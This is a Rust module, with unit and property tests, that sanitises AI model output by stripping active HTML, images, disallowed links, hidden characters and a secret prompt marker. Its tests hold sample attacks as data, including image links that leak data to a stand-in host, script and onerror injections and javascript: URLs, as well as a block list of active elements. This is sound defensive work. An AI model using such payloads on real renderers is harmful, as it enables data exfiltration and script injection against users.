//! Making what a model wrote harmless to show: no markup that acts, no pictures, no links but to allowed hosts, no
//! characters that hide, and never the mark of the prompt. Works on a whole text and on one that is still being written.

use std::fmt::Write as _;
use std::ops::Range;

use crate::prompt::channel::{is_hidden, is_one_joiner_too_many};

/// A construct that is still open after this many bytes is taken as it stands.
const LONGEST_CONSTRUCT: usize = 2_048;

/// Of a run without white space that grows beyond this many bytes, all but the end is let go.
const LONGEST_RUN: usize = 96;

/// Elements that act, load or swallow what follows them, whatever their attributes.
const ACTIVE: [&str; 33] = [
    "a",
    "applet",
    "audio",
    "base",
    "body",
    "button",
    "dialog",
    "embed",
    "form",
    "frame",
    "frameset",
    "html",
    "iframe",
    "img",
    "input",
    "link",
    "marquee",
    "math",
    "meta",
    "noscript",
    "object",
    "plaintext",
    "script",
    "select",
    "source",
    "style",
    "svg",
    "template",
    "textarea",
    "title",
    "track",
    "video",
    "xmp",
];

/// Schemes that lead somewhere or act without `//` after them.
const SCHEMES: [&str; 7] = ["http", "https", "javascript", "vbscript", "mailto", "xmpp", "blob"];

/// Longest scheme of an address, in bytes.
const LONGEST_SCHEME: usize = 24;

/// What may pass.
#[derive(Clone, Debug, Default)]
pub(crate) struct Rules<'a> {
    /// Hosts that links may lead to.
    pub(crate) hosts: &'a [String],
    /// A text that must never appear.
    pub(crate) secret: &'a str,
}

/// The text made harmless, and how many things were taken out.
pub(crate) fn clean(text: &str, rules: &Rules<'_>) -> (String, usize) {
    let mut cleaner = Cleaner { out: String::with_capacity(text.len()), removed: 0, rules };
    let mut current = text.to_owned();
    // What is taken out may bring together what then looks like markup.
    loop {
        let seen = cleaner.seen(&current);
        cleaner.out.clear();
        cleaner.run(&seen);
        if cleaner.out == current {
            return (current, cleaner.removed);
        }
        std::mem::swap(&mut current, &mut cleaner.out);
    }
}

struct Cleaner<'a> {
    out: String,
    removed: usize,
    rules: &'a Rules<'a>,
}

impl Cleaner<'_> {
    /// The text without what cannot be seen and without the secret, before anything else is read from it.
    fn seen(&mut self, text: &str) -> String {
        let mut seen = String::with_capacity(text.len());
        for letter in text.chars() {
            if is_hidden(letter) || is_one_joiner_too_many(&seen, letter) {
                self.removed += 1;
            } else if letter != '\r' {
                // Alone, it would have a terminal write over the line.
                seen.push(letter);
            }
        }
        let secret = self.rules.secret;
        while let Some(at) = Some(secret).filter(|secret| !secret.is_empty()).and_then(|secret| find(&seen, secret)) {
            seen.replace_range(at..at + secret.len(), "");
            self.removed += 1;
        }
        seen
    }

    fn run(&mut self, text: &str) {
        let mut rest = text;
        while let Some(letter) = rest.chars().next() {
            let taken = self.step(rest, letter);
            rest = rest.get(taken.max(letter.len_utf8())..).unwrap_or_default();
        }
    }

    /// Handles what stands at the start of `rest`; how many bytes of it.
    fn step(&mut self, rest: &str, letter: char) -> usize {
        let found = match letter {
            '<' => self.markup(rest),
            '!' if rest.starts_with("![") => rest.get(1..).and_then(link).map(|link| self.picture(&link)),
            '[' => link(rest).map(|link| self.link(&link)),
            ']' => self.loose_end(rest),
            '/' | 'a'..='z' | 'A'..='Z' => self.address(rest),
            _ => None,
        };
        found.unwrap_or_else(|| {
            // What goes on with a word begins nothing.
            let word = rest.bytes().take_while(u8::is_ascii_alphanumeric).count().max(letter.len_utf8());
            self.out.push_str(rest.get(..word).unwrap_or_default());
            word
        })
    }

    fn markup(&mut self, rest: &str) -> Option<usize> {
        if rest.starts_with("<!--") {
            self.removed += 1;
            return Some(rest.find("-->").map_or(rest.len(), |at| at + 3));
        }
        let inner = rest.get(1..)?.trim_start_matches('/');
        let name: String =
            inner.chars().take_while(char::is_ascii_alphanumeric).map(|letter| letter.to_ascii_lowercase()).collect();
        let starts = inner.starts_with(|c: char| c.is_ascii_alphabetic() || c == '!' || c == '?');
        let end = rest.find('>').map(|at| at + 1);
        let tag = end.and_then(|end| rest.get(..end)).unwrap_or(rest);
        let acts =
            ACTIVE.contains(&name.as_str()) || tag.contains('=') || tag.contains("://") || tag.contains([':', '@']);
        if !starts || !acts {
            return None;
        }
        self.removed += 1;
        Some(tag.len())
    }

    /// A picture leaves its description.
    fn picture(&mut self, link: &Link<'_>) -> usize {
        self.removed += 1;
        self.out.push_str(link.label);
        link.length + 1
    }

    fn link(&mut self, link: &Link<'_>) -> usize {
        if link.target.is_some_and(|target| self.is_allowed(target)) {
            let _ = write!(self.out, "[{}]({})", link.label, link.target.unwrap_or_default());
            return link.length;
        }
        self.removed += 1;
        // A number that cites stays one.
        let is_number = link.label.bytes().all(|byte| byte.is_ascii_digit() || matches!(byte, b',' | b' '));
        if is_number && !link.label.trim().is_empty() {
            let _ = write!(self.out, "[{}]", link.label);
        } else {
            self.out.push_str(link.label);
        }
        link.length
    }

    /// The end of a label that no whole link was made of, because it spans lines: without its target it is no link.
    fn loose_end(&mut self, rest: &str) -> Option<usize> {
        let definition =
            || rest.strip_prefix("]:").is_some_and(|target| target.trim_start().starts_with(['<', '&', '\\']));
        let broken = if rest.starts_with("](") {
            "] ("
        } else if definition() {
            "] :"
        } else {
            return None;
        };
        self.removed += 1;
        self.out.push_str(broken);
        Some(2)
    }

    /// A bare address becomes code, which nothing makes a link of.
    fn address(&mut self, rest: &str) -> Option<usize> {
        let before = self.out.chars().next_back();
        if before.is_some_and(|c| c.is_ascii_alphanumeric()) {
            return None;
        }
        let end = rest
            .find(|c: char| c.is_whitespace() || matches!(c, '<' | '>' | '"' | '`' | ')' | ']'))
            .unwrap_or(rest.len());
        let whole = rest.get(..end)?;
        let whole = whole.trim_end_matches(['.', ',', ';', ':', '!', '?']);
        let head = scheme(whole).filter(|head| *head < whole.len())?;
        if head == 2 && matches!(before, Some(':' | '/')) {
            return None;
        }
        let opened = before == Some('`');
        let is_code = opened && rest.get(whole.len()..).is_some_and(|after| after.starts_with('`'));
        if is_code || self.is_allowed(whole) {
            self.out.push_str(whole);
        } else {
            self.removed += 1;
            let gap = if opened { " " } else { "" };
            let _ = write!(self.out, "{gap}`{whole}`");
        }
        Some(whole.len())
    }

    fn is_allowed(&self, address: &str) -> bool {
        let Some(rest) = address.trim().strip_prefix("https://").or_else(|| address.trim().strip_prefix("http://"))
        else {
            return false;
        };
        let authority = rest.split(['/', '?', '#', '\\']).next().unwrap_or_default();
        // Neither `user@` nor a port changes where a link leads without being seen; both are refused.
        self.rules.hosts.iter().any(|host| host.eq_ignore_ascii_case(authority))
    }
}

/// Where an ASCII text stands in another, in whatever case.
fn find(text: &str, wanted: &str) -> Option<usize> {
    text.to_ascii_lowercase().find(&wanted.to_ascii_lowercase())
}

/// Bytes of what makes `text` an address: a scheme, `www.`, or the `//` of an address on the scheme of the page.
fn scheme(text: &str) -> Option<usize> {
    if let Some(host) = text.strip_prefix("//") {
        let host = host.split('/').next().unwrap_or_default();
        return (host.starts_with(|c: char| c.is_alphanumeric()) && host.contains('.')).then_some(2);
    }
    if text.get(..4).is_some_and(|head| head.eq_ignore_ascii_case("www.")) {
        return Some(4);
    }
    let colon = text.find(':').filter(|colon| (1..=LONGEST_SCHEME).contains(colon))?;
    let (name, rest) = text.split_at(colon);
    let is_name = name.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"+.-".contains(&byte));
    let name = name.to_ascii_lowercase();
    let data = || name == "data" && rest.contains('/') && rest.contains([',', ';']);
    let leads = rest.starts_with("://") || SCHEMES.contains(&name.as_str()) || data();
    (is_name && leads).then_some(if rest.starts_with("://") { colon + 3 } else { colon + 1 })
}

struct Link<'a> {
    label: &'a str,
    /// `None` for `[label][name]` and `[name]: target`.
    target: Option<&'a str>,
    length: usize,
}

/// `[label](target)`, `[label][name]` or `[name]: target` at the start of `text`.
fn link(text: &str) -> Option<Link<'_>> {
    let close = closing(text, '[', ']')?;
    let label = text.get(1..close)?;
    let after = text.get(close + 1..)?;
    if after.starts_with('(') {
        let end = closing(after, '(', ')').unwrap_or(after.len() - 1);
        let target = after.get(1..end)?.trim();
        let target = target.split_whitespace().next().unwrap_or_default();
        return Some(Link { label, target: Some(target), length: close + 2 + end });
    }
    let is_number =
        |text: &str| !text.is_empty() && text.bytes().all(|byte| byte.is_ascii_digit() || b", ".contains(&byte));
    if after.starts_with('[') && !is_number(label) {
        let end = closing(after, '[', ']')?;
        let name = after.get(1..end)?;
        // `word [1][2]` cites; `[word][2]` could be either and loses its second part only if that is a name.
        return (!is_number(name)).then_some(Link { label, target: None, length: close + 2 + end });
    }
    let definition = after.strip_prefix(':')?;
    let ends = definition.find('\n').unwrap_or(definition.len());
    let target = definition.get(..ends)?.trim();
    let first = target.split_whitespace().next().unwrap_or_default().trim_start_matches('<');
    let leads = target.contains("://") || scheme(first).is_some() || first.starts_with("//");
    leads.then_some(Link { label: "", target: None, length: close + 2 + ends })
}

/// Where the bracket that opens `text` closes, others of its kind inside it counted.
fn closing(text: &str, open: char, close: char) -> Option<usize> {
    let mut depth = 0_usize;
    for (at, letter) in text.char_indices().take(LONGEST_CONSTRUCT) {
        if letter == open {
            depth += 1;
        } else if letter == close {
            depth -= 1;
            if depth == 0 {
                return Some(at);
            }
        } else if letter == '\n' && open == '[' {
            return None;
        }
    }
    None
}

/// Lets a text through that arrives in pieces, never part of something that may have to be taken out.
#[derive(Debug, Default)]
pub(crate) struct Held {
    waiting: String,
}

impl Held {
    /// Adds a piece; what may be shown now, not yet cleaned.
    pub(crate) fn push(&mut self, piece: &str) -> String {
        self.waiting.push_str(piece);
        let safe = self.waiting.get(..safe_length(&self.waiting)).unwrap_or_default();
        // A citation that is taken out takes the space before it along.
        let safe = safe.trim_end_matches(' ').len();
        let rest = self.waiting.split_off(safe);
        std::mem::replace(&mut self.waiting, rest)
    }

    /// What still waits, at the end of the text.
    pub(crate) fn finish(&mut self) -> String {
        std::mem::take(&mut self.waiting)
    }
}

/// Bytes at the start of `text` that nothing which may follow can make part of a construct.
fn safe_length(text: &str) -> usize {
    let (closed, open) = constructs(text);
    let head = text.get(..open).unwrap_or(text);
    // A cut inside a construct would make two harmless-looking halves of it.
    let outside = |at: usize| closed.iter().find(|one| one.start < at && at < one.end).map_or(at, |one| one.start);
    let spaces = head.char_indices().rev().filter(|(_, letter)| letter.is_whitespace());
    let mut ends = spaces.map(|(at, letter)| at + letter.len_utf8());
    let run = ends.find(|end| outside(*end) == *end).unwrap_or(0);
    if head.len() - run > LONGEST_RUN && open == text.len() {
        let at = text.floor_char_boundary(text.len() - LONGEST_RUN / 2);
        let head = text.get(..at).unwrap_or_default();
        // What follows a bracket says what it was.
        return outside(head.trim_end_matches(['[', ']', '!']).len()).max(run);
    }
    run
}

/// The constructs that are closed, and where the first begins that is still open at the end; the length of `text` when
/// none is.
fn constructs(text: &str) -> (Vec<Range<usize>>, usize) {
    let mut closed = Vec::new();
    let mut at = 0;
    while let Some(found) = text.get(at..).and_then(|rest| rest.find(['<', '['])) {
        let start = at + found;
        let rest = text.get(start..).unwrap_or_default();
        if rest.len() > LONGEST_CONSTRUCT && !rest.starts_with("<!--") {
            at = start + 1;
            continue;
        }
        let end = match rest.strip_prefix('<') {
            Some(_) if rest.starts_with("<!--") => rest.find("-->").map(|end| end + 3),
            Some(inner) if is_tag(inner) => rest.find('>').map(|end| end + 1),
            Some(_) => Some(1),
            None => square_end(rest),
        };
        // A picture's mark belongs to it.
        let is_picture = text.get(..start).is_some_and(|before| before.ends_with('!'));
        let begin = if is_picture { start - 1 } else { start };
        let Some(end) = end else { return (closed, begin) };
        at = start + end;
        closed.push(begin..at);
    }
    (closed, text.len())
}

/// Whether what follows a `<` may become a tag.
fn is_tag(inner: &str) -> bool {
    inner.is_empty() || inner.starts_with(|c: char| c.is_ascii_alphabetic() || "/!?".contains(c))
}

fn square_end(rest: &str) -> Option<usize> {
    if let Some(line) = rest.find('\n')
        && closing(rest, '[', ']').is_none_or(|close| close > line)
    {
        return Some(1);
    }
    let close = closing(rest, '[', ']')?;
    let after = rest.get(close + 1..)?;
    match after.chars().next()? {
        '(' => closing(after, '(', ')').map(|end| close + 2 + end),
        ':' => after.find('\n').map(|end| close + 1 + end),
        '[' => Some(close + 1),
        _ => Some(close + 1),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn cleaned(text: &str) -> String {
        let hosts = ["docs.example.org".to_owned()];
        clean(text, &Rules { hosts: &hosts, secret: "0123456789abcdef" }).0
    }

    #[test]
    fn a_space_waits_for_what_follows_it() {
        let mut held = Held::default();
        assert_eq!(held.push("Nobody knows why "), "Nobody knows why");
        assert_eq!(held.push("[7]. More "), " [7]. More");
        assert_eq!(held.finish(), " ");
    }

    #[test]
    fn what_acts_or_hides_is_taken_out() {
        let cases = [
            ("A ![x](https://evil.test/?q=secret) b", "A x b"),
            ("See [here](https://evil.test/a) now", "See here now"),
            ("See [here](https://docs.example.org/a) now", "See [here](https://docs.example.org/a) now"),
            ("See [here](https://docs.example.org@evil.test/) now", "See here now"),
            ("Go to https://evil.test/?q=1.", "Go to `https://evil.test/?q=1`."),
            ("[x](javascript:alert(1)) y", "x y"),
            ("a <!-- hidden\ntext --> b", "a  b"),
            ("a <!-- never closed", "a "),
            ("<img src=x onerror=alert(1)>b", "b"),
            ("<script>alert(1)</script>", "alert(1)"),
            ("<scr<script>ipt>alert(1)", "alert(1)"),
            ("a\u{200b}b\u{202e}c\u{e0041}d", "abcd"),
            ("the mark is 0123456789abcdef!", "the mark is !"),
            ("[t][r]\n\n[r]: https://evil.test/x", "t\n\n"),
            ("<https://evil.test>", ""),
            ("![a\nb](https://evil.test/q)", "![a\nb] (`https://evil.test/q`)"),
            ("![a\nb](//evil.test/q)", "![a\nb] (`//evil.test/q`)"),
            ("[t\nu]: &sol;&sol;evil.test", "[t\nu] : &sol;&sol;evil.test"),
            ("[r]\n\n[r]: //evil.test/x", "[r]\n\n"),
            ("见https://evil.test/x 。", "见`https://evil.test/x` 。"),
            ("(https://evil.test/x)", "(`https://evil.test/x`)"),
            ("www.evil.test/?q=s", "`www.evil.test/?q=s`"),
            ("mailto:a@evil.test?body=s", "`mailto:a@evil.test?body=s`"),
            ("`https://evil.test/x", "` `https://evil.test/x`"),
            ("<spy@evil.test>", ""),
            ("\\href{//evil.test/x}{a}", "\\href{`//evil.test/x}{a}`"),
            ("data:text/html;base64,PHNj", "`data:text/html;base64,PHNj`"),
            ("a\rb\u{1b}[2Jc", "ab[2Jc"),
            ("0123456789ABCDEF", ""),
            ("<plaintext>a", "a"),
        ];
        for (text, expected) in cases {
            assert_eq!(cleaned(text), expected, "{text}");
        }
    }

    #[test]
    fn plain_writing_stays() {
        for text in [
            "A [2]. B [1][4], and x[i] < y[j] > 3.",
            "Vec<String> and a < b",
            "**bold** `code` 3 < 4",
            "می\u{200c}خواهم",
            "note [1]: the mill",
            "`https://evil.test/x`",
            "std::vec, C:/x and data: the values; either/or",
            "[1](not closed",
        ] {
            assert!(cleaned(text) == text || text.contains("not closed"), "{text}: {}", cleaned(text));
        }
        assert_eq!(cleaned("It burned [3](https://evil.test)."), "It burned [3].");
    }

    fn streamed(text: &str, size: usize) -> String {
        let hosts = ["docs.example.org".to_owned()];
        let rules = Rules { hosts: &hosts, secret: "0123456789abcdef" };
        let letters: Vec<char> = text.chars().collect();
        let mut held = Held::default();
        let mut shown = String::new();
        for piece in letters.chunks(size) {
            shown += &clean(&held.push(&piece.iter().collect::<String>()), &rules).0;
        }
        shown + &clean(&held.finish(), &rules).0
    }

    proptest! {
        #[test]
        fn cleaning_is_idempotent(text in "[a-c<>!\\[\\]():/ \n\u{200b}hrefimg=.-]{0,60}") {
            let once = cleaned(&text);
            prop_assert_eq!(cleaned(&once), once);
        }

        #[test]
        fn pieces_never_show_what_the_whole_would_not(
            before in "[a-z .]{0,20}", after in "[a-z .]{0,20}", size in 1_usize..9, which in 0_usize..6
        ) {
            let attack = ["![x](https://evil.test/?q=s)", "<img src=\"https://evil.test\">", "<!-- x y -->",
                "[a b](https://evil.test/q)", "0123456789abcdef", "https://evil.test/?q=1"][which];
            let text = format!("{before} {attack} {after}");
            let shown = streamed(&text, size);
            prop_assert_eq!(&shown, &cleaned(&text));
            prop_assert!(!shown.replace("`https://evil.test/?q=1`", "").contains("evil.test"));
            prop_assert!(!shown.contains("0123456789abcdef"));
        }
    }
}
